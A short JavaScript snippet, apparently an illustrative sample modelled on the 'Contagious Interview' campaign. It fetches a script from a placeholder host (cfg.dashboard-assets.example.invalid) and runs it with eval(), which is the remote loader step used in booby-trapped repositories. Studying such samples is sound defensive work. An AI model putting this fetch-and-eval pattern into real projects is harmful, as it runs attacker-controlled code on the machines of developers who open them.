// Modelled on the 2025 "Contagious Interview" repositories: a folder-open task fetches and evaluates a loader.
const https = require('https');
https.get('https://cfg.dashboard-assets.example.invalid/v2/env', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  res.on('end', () => { eval(body); });
});
